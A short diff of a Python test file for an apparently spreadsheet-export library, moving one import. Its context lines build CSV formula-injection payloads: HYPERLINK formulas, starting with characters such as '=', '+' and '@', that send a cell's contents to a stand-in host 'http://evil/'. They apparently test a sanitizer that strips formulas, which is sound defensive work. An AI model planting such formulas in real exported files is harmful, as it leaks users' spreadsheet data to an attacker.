@@ -10,9 +10,9 @@ import pytest
 from shell import ok
 
 from fedscape import Federation
+from fedscape.core.history import History
 from fedscape.formats import from_csv, to_csv
 from fedscape.formats.cells import without_formulas
-from fedscape.history import History
 
 BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\n"]
 FORMULAS = [f'{begin}HYPERLINK("http://evil/?"&A1,"click")' for begin in BEGINNINGS]
